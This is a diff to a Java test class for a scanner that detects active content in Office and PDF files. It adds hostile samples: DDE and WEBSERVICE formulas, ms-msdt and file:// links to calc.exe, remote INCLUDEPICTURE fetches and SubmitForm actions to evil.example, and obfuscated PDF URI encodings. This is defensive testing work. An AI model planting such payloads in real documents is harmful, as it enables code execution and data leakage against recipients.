@@ -64,7 +64,14 @@ class ActiveContentTests {
                 relation("hyperlink", "ms-msdt:/id", "TargetMode='External'"),
                 relation("hyperlink", "javascript:alert(1)", "TargetMode='External'"),
                 relation("hyperlink", "file://evil.example/a", "TargetMode='External'"),
-                relation("hyperlink", "\\\\evil.example\\a", "TargetMode='External'"));
+                relation("hyperlink", "\\\\evil.example\\a", "TargetMode='External'"),
+                relation("hyperlink", "file:///c:/windows/system32/calc.exe", "TargetMode='External'"),
+                relation("hyperlink", "FILE:///C:/windows/system32/calc.exe", "TargetMode='External'"),
+                relation("hyperlink", "c:/windows/system32/calc.exe", "TargetMode='External'"),
+                relation("hyperlink", "//evil.example/a", "TargetMode='External'"),
+                relation("hyperlink", "../calc.exe", "TargetMode='External'"),
+                relation("hyperlink", "calc.exe", ""),
+                relation("hyperlink", "search-ms:query=a", "TargetMode='External'"));
     }
 
     private static Stream<Arguments> parts() {
@@ -98,6 +105,25 @@ class ActiveContentTests {
                         "field after another",
                         field(begin() + text("PAGE") + end() + begin() + text(" \"DDE\" x") + end())),
                 arguments("text from elsewhere", field(begin() + text("INCLUDETEXT \"http://evil.example/\"") + end())),
+                arguments(
+                        "link field into the machine",
+                        field("<w:fldSimple w:instr=' HYPERLINK \"file:///c:/a.exe\" '/>")),
+                arguments("link field to a program", field(begin() + text("HYPERLINK calc.exe") + end())),
+                arguments("link field to a server", field(begin() + text("HYPERLINK \"\\\\\\\\evil\\\\a\"") + end())),
+                arguments(
+                        "link field behind a switch",
+                        field(begin() + text("HYPERLINK \\l \"x\" \"ms-msdt:/id\"") + end())),
+                arguments(
+                        "link field made by a field",
+                        field(begin() + text("HYPERLINK ") + begin() + text("QUOTE 102 105") + end() + end())),
+                arguments(
+                        "picture fetched on opening",
+                        field(begin() + text("INCLUDEPICTURE \"http://evil.example/a.png\" \\d") + end())),
+                arguments(
+                        "picture of a server",
+                        field(begin() + text("INCLUDEPICTURE \"\\\\\\\\evil\\\\a.png\"") + end())),
+                arguments("formula that asks a page", sheet("<f>_xlfn.WEBSERVICE(\"http://evil.example/\")</f>")),
+                arguments("formula that asks a program", sheet("<f>1+RTD(\"a\",,\"b\")</f>")),
                 arguments("formula", sheet("<f>cmd|'/c calc'!A0</f>")),
                 arguments("formula in pieces", sheet("<f>cmd<![CDATA[|]]>'/c calc'!A0</f>")),
                 arguments("link", sheet("<ddeLink ddeService='cmd'/>")));
@@ -136,6 +162,70 @@ class ActiveContentTests {
                 arguments(
                         "objects packed twice",
                         pdfStream("/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", utf8("313020"))),
+                arguments(
+                        "objects that say so by their numbers only, in digits",
+                        pdfStream("/N 1/First 4/Filter/ASCIIHexDecode", utf8("313020"))),
+                arguments(
+                        "objects that say so by their numbers only, packed twice",
+                        pdfStream("/N 1/First 4/Filter[/FlateDecode /FlateDecode]", packed(packed(packed)))),
+                arguments(
+                        "objects that begin like no text",
+                        pdfStream("/N 1/First 5/Filter/FlateDecode", packed("\u000b" + packed))),
+                arguments(
+                        "objects that begin like no text, their numbers elsewhere",
+                        pdfStream("/N 8 0 R/F#69rst 9 0 R/Filter/FlateDecode", packed("\u000b" + packed))),
+                arguments("objects in lines", pdfStream("/N 1/First 4/Filter/LZWDecode", utf8("x"))),
+                arguments("objects in a picture", pdfStream("/N 1/First 4/Filter/CCITTFaxDecode", utf8("x"))),
+                arguments("objects, their packing elsewhere", pdfStream("/N 1/First 4/Filter 9 0 R", packed(packed))),
+                arguments("objects in short form", pdfStream("/N 1/First 4/Filter/A85", utf8("x"))),
+                arguments("objects that are damaged", pdfStream("/N 1/First 4/Filter/FlateDecode", utf8("xyz"))),
+                arguments(
+                        "objects behind what looks like the end of a stream",
+                        pdfStream("/N 1/First 4/X(>>stream\nendstream)/Filter/LZWDecode", utf8("x"))),
+                arguments(
+                        "objects behind what looks like another object",
+                        pdfStream("/N 1/First 4/X(\\) 3 0 obj<<)/Filter/LZWDecode", utf8("x"))),
+                arguments(
+                        "objects behind a remark", pdfStream("/N 1/First 4 % 3 0 obj<<\n/Filter/LZWDecode", utf8("x"))),
+                arguments(
+                        "objects behind digits that are none",
+                        pdfStream("/N 1/First 4/X<3<<3>/Filter/LZWDecode", utf8("x"))),
+                arguments("packed in a way nobody knows", pdfStream("/Filter/BrotliDecode", utf8("x"))),
+                arguments(
+                        "objects after a word in the line of the stream",
+                        Samples.join(
+                                utf8("%PDF-1.7\n2 0 obj<</N 1/First 5/Filter/FlateDecode>>stream x\n"),
+                                packed("\u000b" + packed),
+                                utf8("\nendstream endobj\n%%EOF\n"))),
+                arguments(
+                        "objects behind a remark before the stream",
+                        Samples.join(
+                                utf8("%PDF-1.7\n2 0 obj<</N 1/First 5/Filter/FlateDecode>> %x\nstream\n"),
+                                packed("\u000b" + packed),
+                                utf8("\nendstream endobj\n%%EOF\n"))),
+                arguments("link to a program", pdf("<</OpenAction<</S/URI/URI(file:///c:/windows/calc.exe)>>>>")),
+                arguments("link in octal", pdf("<</A<</S/URI/URI(\\146ile:///c:/a.exe)>>>>")),
+                arguments("link in pieces", pdf("<</A<</S/URI/URI (\\\nfi\\\nle:///c:/a.exe)>>>>")),
+                arguments("link in digits", pdf("<</A<</S/URI/URI <66696c653a2f2f2f633a2f612e657865>>>>>")),
+                arguments("link of two bytes", pdf("<</A<</S/URI/URI <FEFF00660069006c0065003a>>>>>")),
+                arguments("link elsewhere", pdf("<</A<</S/URI/URI 9 0 R>>>>")),
+                arguments("link behind a remark", pdf("<</A<</S/URI/URI%x\n(file:///c:/a.exe)>>>>")),
+                arguments("link to a server", pdf("<</A<</S/URI/URI(\\\\\\\\evil\\\\a)>>>>")),
+                arguments("link to a script", pdf("<</A<</S/URI/URI( JavaScript:alert\\(1\\))>>>>")),
+                arguments("link without an end", pdf("<</A<</S/URI/URI(")),
+                arguments(
+                        "link in packed objects",
+                        pdfStream(
+                                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
+                                packed("1 0 " + "x ".repeat(8_170) + "<</S/URI/URI" + " ".repeat(40)
+                                        + "(file:///c:/a.exe)>>"))),
+                arguments(
+                        "link far behind its name in packed objects",
+                        pdfStream(
+                                "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
+                                packed("<</S/URI/URI" + " ".repeat(40_000) + "(file:///c:/a.exe)>>"))),
+                arguments("film", pdf("<</A<</S/Movie/T(x)>>>>")),
+                arguments("form that is sent", pdf("<</A<</S/SubmitForm/F(http://evil.example/)>>>>")),
                 arguments("swells", pdfStream("/Filter/FlateDecode", packed("1 ".repeat(60_000_000)))));
     }
 
@@ -185,12 +275,35 @@ class ActiveContentTests {
                 arguments(
                         "a picture that was pasted",
                         field(begin() + text("INCLUDEPICTURE \"C:\\\\a.jpg\" \\* MERGEFORMATINET") + end())),
+                arguments(
+                        "a link field",
+                        field(begin()
+                                + text("HYPERLINK \"https://www.gov.cn/\" \\o \"注意\"")
+                                + separate()
+                                + begin()
+                                + text("PAGEREF x")
+                                + end()
+                                + end())),
+                arguments("a function of its own", sheet("<f>RECALL(1)+\"RTD(\"</f>")),
                 arguments("a formula", sheet("<f>SUM(A1:A3)&amp;\"甲|乙\"</f>")),
                 arguments("a sheet with an odd name", sheet("<f>'甲|乙'!A1</f>")),
                 arguments(
                         "a fraction",
                         field("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'>|x|</m:f>")),
                 arguments("a PDF with a link", pdf("<</A<</S/URI/URI(https://www.gov.cn/)>>>>")),
+                arguments("a PDF with a mail address", pdf("<</A<</S/URI/URI(MAILTO:a@example.cn)>>>>")),
+                arguments("a PDF with an address in digits", pdf("<</A<</S/URI/URI<68747470733A2F2F612E636E>>>>>")),
+                arguments("a PDF with a dictionary of links", pdf("<</URI<</Base(https://www.gov.cn/)>>>>")),
+                arguments(
+                        "a PDF with a picture",
+                        pdfStream("/Subtype/Image/Filter/CCITTFaxDecode/DecodeParms<</K -1>>", utf8("x"))),
+                arguments(
+                        "a PDF with a picture packed twice",
+                        pdfStream("/Subtype/Image/Filter[/ASCII85Decode/DCTDecode]", utf8("x"))),
+                arguments(
+                        "a PDF with a font that says how long it is",
+                        pdfStream("/N 3/Length1 5/X(\\(a\\)<<)/Y<0A 0b>/Filter/FlateDecode", packed("\1\0\2/JS x"))),
+                arguments("a PDF that speaks of a stream", pdf("<</Title(down stream 100% stream\nendstream)>>")),
                 arguments("a PDF that opens at a page", pdf("<</OpenAction[3 0 R/Fit]>>")),
                 arguments(
                         "a PDF with packed objects",
@@ -257,9 +370,13 @@ class ActiveContentTests {
     }
 
     private static byte[] packed(String text) {
+        return packed(utf8(text));
+    }
+
+    private static byte[] packed(byte[] content) {
         var out = new ByteArrayOutputStream();
         try (var deflater = new DeflaterOutputStream(out)) {
-            deflater.write(utf8(text));
+            deflater.write(content);
         } catch (IOException e) {
             throw new java.io.UncheckedIOException(e);
         }
